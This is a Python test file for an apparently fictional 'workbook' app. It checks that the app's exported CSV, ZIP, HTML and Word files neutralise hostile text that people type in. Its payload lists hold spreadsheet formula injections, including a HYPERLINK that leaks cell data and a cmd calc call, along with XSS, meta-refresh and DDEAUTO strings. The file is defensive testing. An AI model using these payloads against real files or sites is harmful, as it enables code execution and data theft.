"""Every file that people are handed, made of hostile words and opened as their programs would."""

from __future__ import annotations

import ast
import csv
import dataclasses
import importlib
import io
import re
import shutil
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from plans_made import hostile as hostile_plan
from records_made import hostile

from widgets.letters import managers_letter, several_letter, team_letter
from workbook.documents import (
    Entries,
    Entry,
    Grid,
    Group,
    Heading,
    Table,
    Words,
    docx_bytes,
    handed_out_csv,
    handed_out_zip,
    letter_docx,
    letter_html,
    page_html,
    plain,
)
from workbook.meetings import record_csv, record_docx, record_html
from workbook.operations.example import write_example
from workbook.plans.papers import PAPERS, paper, paper_csv, paper_docx, paper_html
from workbook.storage import RELEASED, sheet_bytes
from workbook.themes import Archive, brief_docx, brief_html, released_zip
from workbook.themes.choices import Choice, options
from workbook.themes.view import find

ROOT = Path(__file__).parent.parent.parent
DAY = date(2026, 11, 29)

#: What a spreadsheet would run, and what it passes over before that.
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = (
    '=HYPERLINK("https://example.org?"&A1,"More")',
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\uff1dcmd|' /C calc'!A0",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "   =1",
    '"=1',
    "'=1",
    "' \"=1",
    "\ufeff=1",
    "\u200b=1",
    "\u00a0=1",
    "words;=1",
    'words;"=1";+2',
    "words\t@SUM(A1)",
    "words\n=1",
    "words\r=1",
    "\t",
    "\rx",
)


# The places where a table or an archive is written


#: Every place that writes a table or an archive, but the one for what is handed out, and why.
WRITES = {
    "workbook/access/log.py": "the file of who opened what, which stays in the data folder",
    "workbook/operations/backups.py": "a backup, which is restored to the byte",
    "workbook/operations/to_teams.py": "brings the data folder's own files to a newer form",
    "workbook/publishing/publisher.py": "the released folder's own files",
    "workbook/sessions/csv/reflection_file.py": "a session's own file",
    "workbook/storage/csv_files.py": "how a table is written at all",
    "workbook/storage/tables.py": "a table of the data folder",
    "workbook/themes/archive.py": "hands the released files to the one writer, or to the page",
    "workbook/themes/disclosure.py": "the released words' own file",
    "workbook/themes/periods.py": "a period's own plan",
    "workbook/themes/requests.py": "the file of requests",
    "workbook/themes/requests_form.py": "compares a file of requests with how one is written",
    "workbook/documents/word.py": "packs a Word document, which has no tables of ours in it",
}
THE_ONE = "workbook/documents/handed_out.py"
_WRITERS = {"sheet_bytes", "writer", "DictWriter", "to_csv", "to_excel", "released_bytes"}
_PACKERS = {"ZipFile", "make_archive", "TarFile"}


def written_in(source):
    """The calls in a source that write a table or an archive."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            name = getattr(node.func, "attr", getattr(node.func, "id", ""))
            if name in _WRITERS or (name in _PACKERS and _packs(node)):
                found.append(name)
    return found


def _packs(call):
    mode = call.args[1] if len(call.args) > 1 else None
    named = [each.value for each in call.keywords if each.arg == "mode"]
    mode = named[0] if named else mode
    return mode is not None and not (isinstance(mode, ast.Constant) and mode.value == "r")


def sources():
    return [
        path for folder in ("workbook", "widgets") for path in sorted((ROOT / folder).rglob("*.py"))
    ]


def test_a_table_is_written_in_no_place_but_these():
    found = {
        path.relative_to(ROOT).as_posix() for path in sources() if written_in(path.read_text())
    }
    assert found - {THE_ONE} == set(WRITES)
    assert THE_ONE in found
    # And the looking finds what it should.
    assert written_in("import csv\ncsv.writer(file)") == ["writer"]
    assert written_in("frame.to_csv('x')") == ["to_csv"]
    assert written_in("zipfile.ZipFile(x, 'w')") == ["ZipFile"]
    assert written_in("zipfile.ZipFile(x)") == []


def test_pages_that_people_see_write_no_table_themselves():
    assert not [name for name in WRITES if name.startswith(("widgets/", "workbook/cli/"))]


def test_a_notebook_writes_no_table():
    for path in sorted((ROOT / "notebooks").rglob("*.ipynb")):
        assert not re.search(r"sheet_bytes|csv\.writer|to_csv|ZipFile", path.read_text()), path.name


# What is handed out


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """The released folder of the invented service, which is made once."""
    folder = tmp_path_factory.mktemp("example") / "data"
    write_example(folder)
    return folder / RELEASED


@pytest.fixture
def folder(example, tmp_path):
    """A copy of it."""
    return Path(shutil.copytree(example, tmp_path / RELEASED))


def released(folder, text):
    """A published period in whose tables every cell is what somebody typed."""
    period = Archive(folder).periods[0]
    for path in sorted((period.folder / "published").glob("*.csv")):
        columns, *rows = csv.reader(io.StringIO(path.read_text(), newline=""))
        typed = [[text for _ in row] for row in rows[:3] or [columns]]
        path.write_bytes(sheet_bytes(columns, typed))
    return released_zip(Archive(folder).periods[0])


def theme_brief(folder, text):
    """What the one page of themes is made of, with a text where somebody may have typed it."""
    view = find(Archive(folder), options(Archive(folder), Choice(), side_by_side=False)[1])
    acted = tuple((text, "most or all") for _ in view.actions)
    return dataclasses.replace(view, service=text, actions=acted)


def letters(text):
    address = f"https://workbook.example.org/in#link=lead&key={'a' * 26}"
    return (
        team_letter(text, text, address, DAY),
        managers_letter(text, address, DAY),
        several_letter([text, text], address, DAY),
    )


def papers_of(text, *kinds):
    return [paper(kind, hostile_plan(text), today=DAY) for kind in kinds]


#: The message with which a page is asked for a file, and each kind of file, made of a text.
HANDED_OUT = {
    ("widgets.messages", "SaveRecord"): {
        "html": lambda text, _: [record_html(hostile(text)).encode()],
        "docx": lambda text, _: [record_docx(hostile(text))],
        "csv": lambda text, _: [record_csv(hostile(text))],
    },
    ("widgets.themes_messages", "SaveThemes"): {
        "html": lambda text, folder: [brief_html(theme_brief(folder, text)).encode()],
        "docx": lambda text, folder: [brief_docx(theme_brief(folder, text))],
        "csv": lambda text, folder: [released(folder, text)],
    },
    ("widgets.team_messages", "SaveLetter"): {
        "html": lambda text, _: [letter_html(each).encode() for each in letters(text)],
        "docx": lambda text, _: [letter_docx(each) for each in letters(text)],
    },
    ("widgets.plan_messages", "SavePaper"): {
        "html": lambda text, _: [paper_html(each).encode() for each in papers_of(text, *PAPERS)],
        "docx": lambda text, _: [paper_docx(each, DAY) for each in papers_of(text, *PAPERS)],
        # The sheet has the words of its parts alone, in which blanks are not somebody's words.
        "csv": lambda text, _: [
            paper_csv(each) for each in papers_of(text, "plan", "run_sheet", "ideas")
        ],
    },
}
CASES = [
    pytest.param(make, kind, id=f"{name}-{kind}")
    for (_, name), kinds in HANDED_OUT.items()
    for kind, make in kinds.items()
]


def asked_for():
    """Every message that asks for a file, and the kinds it may ask for, as they are declared."""
    found = {}
    for path in sorted((ROOT / "widgets").glob("*messages.py")):
        module = importlib.import_module(f"widgets.{path.stem}")
        for name, each in vars(module).items():
            if dataclasses.is_dataclass(each) and each.__module__ == module.__name__:
                for field in dataclasses.fields(each):
                    kinds = set(re.findall(r"['\"](\w+)['\"]", str(field.type)))
                    if kinds & {"html", "docx", "csv", "zip", "pdf", "xlsx"}:
                        found[module.__name__, name] = kinds
    return found


def test_every_file_that_a_page_can_be_asked_for_is_looked_at_here():
    assert asked_for() == {name: set(kinds) for name, kinds in HANDED_OUT.items()}


def tables_of(file):
    """The text of every table in a file: the file itself, or those in a ZIP."""
    if not file.startswith(b"PK"):
        return {"": file.decode("utf-8-sig")}
    with zipfile.ZipFile(io.BytesIO(file)) as whole:
        tables = {name: whole.read(name).decode() for name in whole.namelist()}
    return {name: text for name, text in tables.items() if name.endswith(".csv")}


def run_by_a_spreadsheet(text):
    """The cells of a table that would run, however a spreadsheet splits the file."""
    found = []
    for mark in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark):
            for cell in row:
                found += [cell] * (mark == "," and cell.startswith(("\t", "\r", "\n")))
                found += [
                    line
                    for line in re.split("[\r\n]", cell)
                    if line.lstrip(' \t"\u00a0\ufeff\u200b').startswith(tuple(SIGNS))
                ]
    return found


def test_the_looking_finds_a_formula():
    for text in FORMULAS:
        if text.startswith("'"):
            continue  # it would run only where the apostrophe is passed over
        assert run_by_a_spreadsheet(sheet_bytes(("a", "b"), [("x", text)]).decode()), repr(text)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize(
    "make",
    [kinds["csv"] for kinds in HANDED_OUT.values() if "csv" in kinds],
    ids=["record", "zip", "paper"],
)
def test_no_cell_of_any_table_is_run_by_a_spreadsheet(folder, make, text):
    for file in make(text, folder):
        for name, table in tables_of(file).items():
            assert run_by_a_spreadsheet(table) == [], name
            cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
            assert {text, plain(text)} & {as_typed(cell) for cell in cells}, name


def as_typed(cell):
    """A cell as somebody typed it, of one that was made safe."""
    if re.match("''*[\t\r\n]", cell):
        cell = cell[1:]
    sign = f"[{SIGNS}]".replace("-", "\\-")
    passed = "(?:(?![\r\n\t;])[\\s\"'\x00-\x1f\u200b-\u200f\u2060\ufeff])*"
    return re.sub(f"(^|[\r\n\t;])'({passed}{sign})", r"\1\2", cell)


_TYPED = st.text(alphabet=st.sampled_from([*SIGNS, *"\t\r\n;,\"' ab\ufeff\u200b\x00"]), max_size=12)


@given(text=_TYPED | st.text(max_size=40))
def test_whatever_is_typed_is_safe_and_can_be_read_back(text):
    table = handed_out_csv(("a", text), [("x", text), (text, "y")]).decode("utf-8")
    assert run_by_a_spreadsheet(table) == []
    rows = list(csv.reader(io.StringIO(table, newline=""), strict=True))
    assert [as_typed(cell) for row in rows for cell in row] == ["a", text, "x", text, text, "y"]


@pytest.mark.parametrize("text", ["a-b, c+d = e@f", "It’s -1 outside", "'quoted'", "é “x” – y; z"])
def test_words_that_no_spreadsheet_would_run_are_as_they_were_typed(text):
    assert handed_out_csv(("a",), [(text,)]) == sheet_bytes(("a",), [(text,)])


def test_in_an_archive_only_tables_are_changed_and_every_one_of_them():
    files = {"a.csv": b"a\n=1\n", "deep/B.CSV": b"b\n+1\n", "c.json": b'"=1"', "d.toml": b"-1"}
    with zipfile.ZipFile(io.BytesIO(handed_out_zip(files))) as whole:
        assert {name: whole.read(name) for name in whole.namelist()} == {
            "a.csv": b"a\n'=1\n",
            "deep/B.CSV": b"b\n'+1\n",
            "c.json": b'"=1"',
            "d.toml": b"-1",
        }
    assert handed_out_zip(files) == handed_out_zip(dict(reversed(files.items())))


# Pages and Word documents: words stay words


SPELLS = (
    "<script>alert(1)</script>",
    '"><img src=http://192.0.2.1/x onerror=alert(1)>',
    "</style></title><a href=javascript:alert(1)>x</a>",
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1">',
    '{ HYPERLINK "http://192.0.2.1" } {DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
    '<w:fldSimple w:instr="DDEAUTO cmd"/><w:hyperlink r:id="rId1"/>',
    "http://192.0.2.1/x \\\\192.0.2.1\\share mailto:a@b.example",
    "{{ 7*7 }} {% raw %}",
)


def of_all_kinds(text):
    """Blocks of every kind that a page or a document is made of, with a text in every place."""
    return (
        Heading(level=2, text=text),
        Words(text=text, label=text),
        Entries(entries=(Entry(text=text, more=((text, text),)),)),
        Table(caption=text, columns=("1", text, text), rows=(("1", text, text),)),
        Grid(caption=text, columns=(text, text), rows=((text, text),), widths=(5, 15)),
        *(
            Group(kind=kind, blocks=(Heading(level=2, text=text), Words(text=text, label=text)))
            for kind in ("box", "columns")
        ),
    )


@pytest.mark.parametrize("spell", SPELLS)
def test_a_word_document_has_no_fields_links_or_macros_whatever_was_typed(folder, spell):
    made = [file for kinds in HANDED_OUT.values() for file in kinds["docx"](spell, folder)]
    made.append(docx_bytes(spell, of_all_kinds(spell), window_title=spell, day=DAY))
    for file in made:
        with zipfile.ZipFile(io.BytesIO(file)) as parts:
            assert not [name for name in parts.namelist() if "vba" in name or "embed" in name]
            for name in parts.namelist():
                written = parts.read(name).decode("utf-8", errors="replace")
                for element in ("fldSimple", "instrText", "fldChar", "hyperlink", "altChunk"):
                    assert not re.search(rf"<w:{element}\b", written), (name, element)
                if name.endswith(".rels"):
                    assert 'TargetMode="External"' not in written


FORBIDDEN = {"script", "iframe", "object", "embed", "form", "base", "img", "a", "link"}


class Elements(HTMLParser):
    """The elements of a page with their attributes, as a browser finds them."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("spell", SPELLS)
def test_a_page_has_no_script_link_or_picture_that_somebody_typed(folder, spell):
    made = [file.decode() for kinds in HANDED_OUT.values() for file in kinds["html"](spell, folder)]
    made.append(page_html(spell, of_all_kinds(spell), window_title=spell))
    for file in made:
        elements = Elements(file).found
        assert not {tag for tag, _ in elements} & FORBIDDEN
        for tag, attributes in elements:
            assert not [name for name in attributes if name.startswith("on")], tag
            for name in ("src", "href", "action", "xlink:href"):
                assert attributes.get(name, "#").startswith("#"), (tag, name)
            assert attributes.get("http-equiv", "Content-Security-Policy").startswith("Content-")
